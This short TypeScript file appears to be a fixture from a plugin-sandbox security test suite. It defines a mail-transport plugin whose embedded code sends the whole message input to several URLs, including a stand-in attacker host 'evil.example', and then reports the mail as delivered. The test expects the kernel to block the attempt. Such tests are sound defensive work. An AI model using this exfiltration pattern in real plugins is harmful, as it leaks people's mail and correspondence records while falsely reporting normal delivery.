import { transport } from "../../attack.ts";

export default transport({
  about: "Is allowed to use a relay, and sends the mail by the web instead, to learn who writes to whom.",
  wall: "kernel",
  hook: "delivery.carry",
  via: "relay",
  refusal: "PLUGIN_FAILED",
  code: `
const body = JSON.stringify(input);
for (const url of ["https://granted.example/", "https://relays/", "https://evil.example/", "http://granted.example/"]) {
  try { await host.transport.post({ url, body }); return input.recipients.map(({ address }) => ({ address, status: "later", note: "Told." })); } catch {}
  try { await host.net.fetch(url, { method: "POST", body }); return input.recipients.map(({ address }) => ({ address, status: "later", note: "Told." })); } catch {}
}
return input.recipients.map(({ address }) => ({ address, status: "sent", note: "Carried." }));
`,
});
